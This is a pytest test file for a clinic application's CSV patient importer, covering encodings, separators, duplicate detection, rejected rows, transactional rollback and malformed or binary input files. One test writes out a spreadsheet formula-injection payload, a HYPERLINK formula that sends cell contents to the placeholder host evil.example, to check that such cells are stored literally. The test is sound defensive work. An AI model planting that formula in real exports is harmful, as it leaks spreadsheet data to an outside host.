"""Patient import from CSV: encodings, separators, hostile files, duplicates, one transaction."""

from __future__ import annotations

import random
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func, select

from mesodesk.services import importer
from mesodesk.services.dto import PatientInput
from mesodesk.services.importer import ImportFileError, import_patients
from mesodesk.services.patients import create_patient, patient_page
from mesodesk.store.engine import Database
from mesodesk.store.models import AuditEvent, Patient, PatientSearchTerm
from tests.factories import ACTOR

TODAY = date(2025, 6, 1)


def _write(tmp_path: Path, text: str, *, encoding: str = "utf-8", name: str = "p.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def _patients(db: Database) -> list[Patient]:
    with db.read() as s:
        return list(s.scalars(select(Patient).order_by(Patient.id)))


def _imports(db: Database) -> list[AuditEvent]:
    with db.read() as s:
        return list(s.scalars(select(AuditEvent).where(AuditEvent.action == "import")))


def _run(db: Database, path: Path, **kwargs: bool) -> importer.ImportReport:
    return import_patients(db, path, actor=ACTOR, today=TODAY, **kwargs)


def test_plain_utf8_file_imports_with_search_terms_and_one_audit_row(
    db: Database, tmp_path: Path
) -> None:
    path = _write(
        tmp_path,
        "given_name,family_name,date_of_birth,sex,phone,email,address,notes\n"
        "Hélène,Müller,1985-03-12,F,06 12 34 56 78,helene@example.com,1 rue Haute,\n"
        "Ewa,Kowalska,02/11/1979,female,,,,\n",
    )
    report = _run(db, path)
    assert (report.imported, report.rejected, report.duplicate_count) == (2, 0, 0)
    rows = _patients(db)
    assert [(p.given_name, p.family_name, p.date_of_birth, p.sex) for p in rows] == [
        ("Hélène", "Müller", date(1985, 3, 12), "female"),
        ("Ewa", "Kowalska", date(1979, 11, 2), "female"),
    ]
    assert rows[0].sort_key == "muller helene"
    assert [r.given_name for r in patient_page(db, "helene", actor=ACTOR)] == ["Hélène"]
    assert [r.given_name for r in patient_page(db, "0612", actor=ACTOR)] == ["Hélène"]
    from mesodesk.services.patient_list import find_patients

    for short, expected in (("mü", ["Hélène"]), ("k", ["Ewa"]), ("e", ["Ewa"])):
        listing = find_patients(db, short, actor=ACTOR)
        assert [r.given_name for r in listing.rows(0, listing.count)] == expected, short
    events = _imports(db)
    assert len(events) == 1
    assert events[0].entity == "patient" and events[0].actor == ACTOR.name
    assert events[0].after is not None
    assert events[0].after["file"] == "p.csv"
    assert (events[0].after["imported"], events[0].after["rejected"]) == (2, 0)


def test_semicolons_bom_aliases_and_quoted_newlines(db: Database, tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "First Name;SURNAME;dob;Notes;Favourite colour\r\n"
        'Marie;"Dupont; née Martin";12/03/1985;"Line one\r\nline two; with ""quotes"""; blue\r\n'
        "\r\n"
        ";;;;\r\n"
        "Jean;Durand;;;\r\n",
        encoding="utf-8-sig",
    )
    report = _run(db, path)
    assert report.separator == ";" and report.encoding == "utf-8-sig"
    assert report.ignored_columns == ("Favourite colour",)
    assert (report.imported, report.rejected, report.rows_read) == (2, 0, 2)
    marie, jean = _patients(db)
    assert marie.family_name == "Dupont; née Martin"
    assert marie.notes == 'Line one\nline two; with "quotes"'
    assert jean.date_of_birth is None


def test_tab_separated_utf16_from_excel_unicode_text(db: Database, tmp_path: Path) -> None:
    path = _write(tmp_path, "given_name\tfamily_name\nÇağla\tYılmaz\n", encoding="utf-16")
    report = _run(db, path)
    assert report.separator == "\t" and report.imported == 1
    assert _patients(db)[0].family_name == "Yılmaz"


def test_windows_1252_file_falls_back(db: Database, tmp_path: Path) -> None:
    path = _write(tmp_path, "given_name;family_name\nHélène;Lefèvre\n", encoding="cp1252")
    report = _run(db, path)
    assert report.encoding == "cp1252" and report.imported == 1
    assert _patients(db)[0].given_name == "Hélène"


def test_formula_looking_cells_are_stored_literally(db: Database, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    path = _write(
        tmp_path,
        "given_name,family_name,phone,notes,address\n"
        f'"{formula.replace(chr(34), chr(34) * 2)}",Smith,+44 20 7946 0958,@SUM(A1:A9),-1+2\n',
    )
    report = _run(db, path)
    assert report.imported == 1, report.problems
    (patient,) = _patients(db)
    assert patient.given_name == formula
    assert (patient.phone, patient.notes, patient.address) == (
        "+44 20 7946 0958",
        "@SUM(A1:A9)",
        "-1+2",
    )


def test_bad_rows_are_listed_with_line_numbers_and_good_rows_imported(
    db: Database, tmp_path: Path
) -> None:
    path = _write(
        tmp_path,
        "given_name,family_name,date_of_birth,email,sex\n"  # line 1
        "Anna,Berg,1990-01-01,,\n"  # line 2: good
        ',Nobody,"1990-01-01",,\n'  # line 3: no given name
        '"Multi\nline",Notes,,,\n'  # lines 4-5: name over two lines
        "Cara,Dunn,31/02/1990,,\n"  # line 6: no such date
        "Dora,Eve,2030-01-01,not-an-email,\n"  # line 7: future and bad e-mail
        "Eli,Fox,,,maybe\n"  # line 8: unknown sex
        "Fay,Gold,,,,extra\n"  # line 9: too many cells
        "Gus,Hill,1950-05-05,gus@example.com,m\n",  # line 10: good
    )
    report = _run(db, path)
    assert report.imported == 2
    lines = {p.line: p.reason for p in report.problems}
    assert sorted(lines) == [3, 4, 6, 7, 8, 9]
    assert "given_name" in lines[3]
    assert "several lines" in lines[4]
    assert "'31/02/1990' does not exist" in lines[6]
    assert "future" in lines[7] and "e-mail" in lines[7]
    assert "female, male or other" in lines[8]
    assert "6 cells" in lines[9]
    assert [p.given_name for p in _patients(db)] == ["Anna", "Gus"]
    (event,) = _imports(db)
    assert event.after is not None and event.after["rejected"] == 6


def test_all_or_nothing_imports_nothing_when_a_row_is_bad(db: Database, tmp_path: Path) -> None:
    path = _write(tmp_path, "given_name,family_name\nAnna,Berg\n,Nobody\nGus,Hill\n")
    report = _run(db, path, all_or_nothing=True)
    assert report.rolled_back and report.imported == 0
    assert [p.line for p in report.problems] == [3]
    assert "Nothing imported" in report.summary()
    assert _patients(db) == [] and _imports(db) == []
    with db.read() as s:
        assert s.scalar(select(func.count()).select_from(PatientSearchTerm)) == 0


def test_all_or_nothing_imports_everything_when_all_rows_are_good(
    db: Database, tmp_path: Path
) -> None:
    path = _write(tmp_path, "given_name,family_name\nAnna,Berg\nGus,Hill\n")
    report = _run(db, path, all_or_nothing=True)
    assert not report.rolled_back and report.imported == 2


def test_duplicates_against_existing_patients_and_within_the_file(
    db: Database, tmp_path: Path
) -> None:
    existing = create_patient(db, PatientInput("Hélène", "Müller", date(1985, 3, 12)), actor=ACTOR)
    path = _write(
        tmp_path,
        "given_name,family_name,date_of_birth\n"
        "helene,MULLER,1985-03-12\n"  # line 2: same as the existing patient
        "Anna,Berg,1990-01-01\n"  # line 3
        "ANNA,berg,01/01/1990\n"  # line 4: same as line 3
        "Anna,Berg,1991-01-01\n",  # line 5: another Anna Berg
    )
    report = _run(db, path)
    assert report.imported == 2 and report.duplicate_count == 2
    first, second = report.duplicates
    assert (first.line, first.patient_id, first.patient_name) == (2, existing.id, "Hélène Müller")
    assert (second.line, second.patient_id, second.same_as_line) == (4, None, 3)
    assert len(_patients(db)) == 3
    again = _run(db, path)
    assert again.imported == 0 and again.duplicate_count == 4 and _imports(db)[1:] == []


def test_many_rows_are_imported_in_batches(db: Database, tmp_path: Path) -> None:
    body = "".join(
        f"Given{i},Family{i},{1950 + i % 50}-01-01,+33 6 00 00 {i:05d}\n" for i in range(1234)
    )
    path = _write(tmp_path, "given_name,family_name,date_of_birth,phone\n" + body)
    seen: list[tuple[int, int]] = []
    report = import_patients(
        db, path, actor=ACTOR, today=TODAY, progress=lambda done, total: seen.append((done, total))
    )
    assert report.imported == 1234
    assert seen[-1][0] == seen[-1][1] == path.stat().st_size
    assert len(_patients(db)) == 1234
    assert [r.given_name for r in patient_page(db, "given1233", actor=ACTOR)] == ["Given1233"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        (b"\xef\xbb\xbf", "is empty"),
        (b"\n\r\n  \n", "only blank lines"),
        (b"given_name,family_name\n\x00\x01\x02\x03" * 50, "binary data"),
        (
            b"name,birthday\nAnna,1990\n",
            "Expected columns: given_name, family_name (required), date_of_birth",
        ),
        (b"given_name,phone\nAnna,1\n", "family_name is missing"),
        (b"given_name,first_name,family_name\nA,B,C\n", "two columns for given_name"),
        (b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)) * 8, "not a text file"),
        (b'given_name,family_name\nAnna,"Berg\n' + b"x" * 200_000 + b"\n", "closing quote"),
    ],
    ids=[
        "empty",
        "bom-only",
        "blank",
        "nul",
        "wrong-headers",
        "missing",
        "twice",
        "zip",
        "open-quote",
    ],
)
def test_file_level_problems_raise_one_clear_line(
    db: Database, tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "hostile.csv"
    path.write_bytes(content)
    with pytest.raises(ImportFileError) as caught:
        _run(db, path)
    assert message in str(caught.value)
    assert "\n" not in str(caught.value)
    assert _patients(db) == [] and _imports(db) == []


def test_missing_file_and_folder(db: Database, tmp_path: Path) -> None:
    with pytest.raises(ImportFileError, match="Cannot read nope.csv"):
        _run(db, tmp_path / "nope.csv")
    with pytest.raises(ImportFileError, match="is a folder"):
        _run(db, tmp_path)


def test_ten_megabytes_of_random_bytes(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "junk.csv"
    path.write_bytes(random.Random(7).randbytes(10 * 1024 * 1024))
    with pytest.raises(ImportFileError, match="binary|not a text file"):
        _run(db, path)
    assert _patients(db) == []


def test_ten_megabytes_of_printable_junk_without_newlines(db: Database, tmp_path: Path) -> None:
    rng = random.Random(8)
    letters = "abcdefghijklmnopqrstuvwxyz ,;\"'=+-@"
    path = tmp_path / "junk.csv"
    with path.open("w", encoding="utf-8") as f:
        for _ in range(10):
            f.write("".join(rng.choices(letters, k=1024 * 1024)))
    with pytest.raises(ImportFileError, match="longer than"):
        _run(db, path)


def test_ten_megabytes_of_junk_rows_after_a_good_header(db: Database, tmp_path: Path) -> None:
    rng = random.Random(9)
    path = tmp_path / "junk.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write("given_name,family_name,date_of_birth\n")
        while f.tell() < 10 * 1024 * 1024:
            f.write(f"{rng.random()},,{rng.random()}\n")
    report = _run(db, path)
    assert report.imported == 0
    assert report.rejected > 100_000
    assert len(report.problems) == importer.MAX_PROBLEMS
    assert _patients(db) == [] and _imports(db) == []


def test_module_documents_every_column() -> None:
    doc = importer.__doc__ or ""
    for column in importer.COLUMNS:
        assert f"``{column}``" in doc
    for alias in importer.ALIASES:
        if "_" in alias or alias in ("dob", "surname", "gender", "mobile", "telephone"):
            assert f"``{alias}``" in doc, alias
